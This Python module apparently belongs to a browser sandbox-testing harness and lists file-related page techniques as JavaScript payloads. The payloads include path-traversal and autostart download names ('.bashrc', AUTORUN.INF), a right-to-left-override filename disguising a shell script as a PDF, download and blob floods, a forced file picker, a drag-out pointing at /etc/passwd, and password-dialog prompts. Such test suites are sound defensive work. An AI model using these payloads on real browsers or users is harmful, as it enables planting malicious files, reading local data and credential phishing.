"""Files: what a page has downloaded, what it would have opened, and what it wants from the person's tray."""

from __future__ import annotations

from typing import Any

from proof.escapes.pages.page_technique import PageTechnique
from proof.escapes.technique import Way

KEEPS = "page-keeps-files-anywhere"
"""Weakness: a browser that keeps a file under the name that a site gives, and opens it."""
TAKES = "drags-out"
"""Weakness: a browser where what is dragged out of a page opens beside it."""
PASSWORDS = "page-gets-dialogs"


def _file(name: str, title: str, js: str, weakness: str = KEEPS, *shows: Way, **more: Any) -> PageTechnique:
    return PageTechnique(
        id=f"PG-FILE-{name}",
        title=title,
        tries="write outside of the tray, start something, read what the person did not give",
        family="page: files",
        js=js,
        shows=shows or (Way.FILE, Way.PROCESS, Way.WINDOW),
        weakness=weakness,
        **more,
    )


_PDF = (
    "%PDF-1.4\\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>endobj\\n"
    "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\\n"
    "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Annots[4 0 R]>>endobj\\n"
    "4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 600 800]/Border[0 0 0]/A 5 0 R>>endobj\\n"
    "5 0 obj<</S/URI/URI(https://dehors.exercice/)>>endobj\\ntrailer<</Root 1 0 R>>\\n%%EOF"
)
"""One page that opens an address by itself, and is a link from edge to edge."""


def _named(*names: str) -> str:
    listed = ", ".join(f"'{name}'" for name in names)
    return f"for (const name of [{listed}]) {{ put('iframe', {{src: '/d/x?as=' + encodeURIComponent(name)}}); put('a', {{href: '/d/y', download: name}}).click(); await sleep(120); }} await sleep(400);"


TECHNIQUES = (
    _file("PATHS", "names that lead out of the tray", _named("../../dehors.txt", "/tmp/dehors.txt", "..\\\\..\\\\dehors.txt", "%2e%2e%2fdehors.txt"), short=True),
    _file("HIDDEN", "names that a system reads", _named(".bashrc", ".config/autostart/x.desktop", "dehors.desktop", "AUTORUN.INF")),
    _file("DISGUISED", "a program that looks like a paper", _named("facture\\u202Efdp.sh", "facture.pdf.sh", "x".ljust(400, "y") + ".pdf")),
    _file("OPENS", "a file that opens itself", "for (const type of ['application/pdf', 'application/x-desktop', 'application/x-shockwave-flash', 'application/vnd.ms-word']) { location.href = '/d/ouvre.bin?inline=1&type=' + encodeURIComponent(type); await sleep(150); } await sleep(300);"),
    _file("PDF-LINKS", "a PDF in the page, all of it a link", "put('iframe', {style: 'position:fixed;inset:0;width:100%;height:100%', src: '/d/liens.pdf?inline=1&type=application/pdf&body=' + encodeURIComponent(`" + _PDF + "`)}); await sleep(700);", "page-shows-pdf", Way.TOLD, Way.LEFT, then="click", lasts=1.5),
    _file("STORM", "three hundred downloads", "for (let i = 0; i < 300; i++) put('a', {href: '/d/t' + i + '.bin', download: ''}).click(); await sleep(1500);", KEEPS, Way.FILE, Way.FROZEN, Way.SHELL, by="click", lasts=1.0),
    _file("ENDLESS", "downloads that do not end", "for (let i = 0; i < 20; i++) put('iframe', {src: '/endless'}); await sleep(2500);", KEEPS, Way.FILE, Way.FROZEN, Way.SHELL, lasts=1.0),
    _file("BLOBS", "files that the page makes itself", "const big = new Blob([new Uint8Array(30 << 20)]); for (let i = 0; i < 40; i++) put('a', {href: URL.createObjectURL(big), download: 'b' + i}).click(); await sleep(1500);", KEEPS, Way.FILE, Way.FROZEN, Way.SHELL, by="click", lasts=1.0),
    _file("TAKE", "the tray's papers, without the person", "const field = put('input', {type: 'file', multiple: true}); field.onchange = () => won('papers of the tray: ' + field.files.length); field.click(); for (let i = 0; i < 5; i++) { dispatchEvent(new KeyboardEvent('keydown', {key: 'Enter'})); await sleep(80); } await sleep(300);", "page-gets-files", Way.TOLD, Way.WINDOW, by="click", asks=True),
    _file("DRAG-OUT", "something to drag on the shell", "document.body.insertAdjacentHTML('beforeend', '<div id=drag draggable=true style=\"position:fixed;inset:0;background:#eee\">x</div>'); drag.ondragstart = (event) => { event.dataTransfer.setData('DownloadURL', 'text/plain:dehors.txt:https://piege.exercice/d/dehors.txt'); event.dataTransfer.setData('text/uri-list', 'file:///etc/passwd'); post('dragged'); }; drag.ondragend = (event) => event.dataTransfer.dropEffect === 'none' ? post('dropped') : won('somebody took what was dragged: ' + event.dataTransfer.dropEffect); await sleep(200);", TAKES, Way.WINDOW, Way.FILE, Way.TOLD, then="drag", lasts=0.5),
    _file("PASSWORD-BOX", "the browser's own box for a password", "location.href = '/auth'; await sleep(500);", PASSWORDS, Way.WINDOW, short=True),
    _file("PASSWORD-PICTURE", "that box, for a picture, a script, a frame", "put('img', {src: '/auth?1'}); put('iframe', {src: '/auth?2'}); await soon(() => fetch('/auth?3')); put('img', {src: FRIEND + '/auth'}); await sleep(400);", PASSWORDS, Way.WINDOW),
)  # fmt: skip
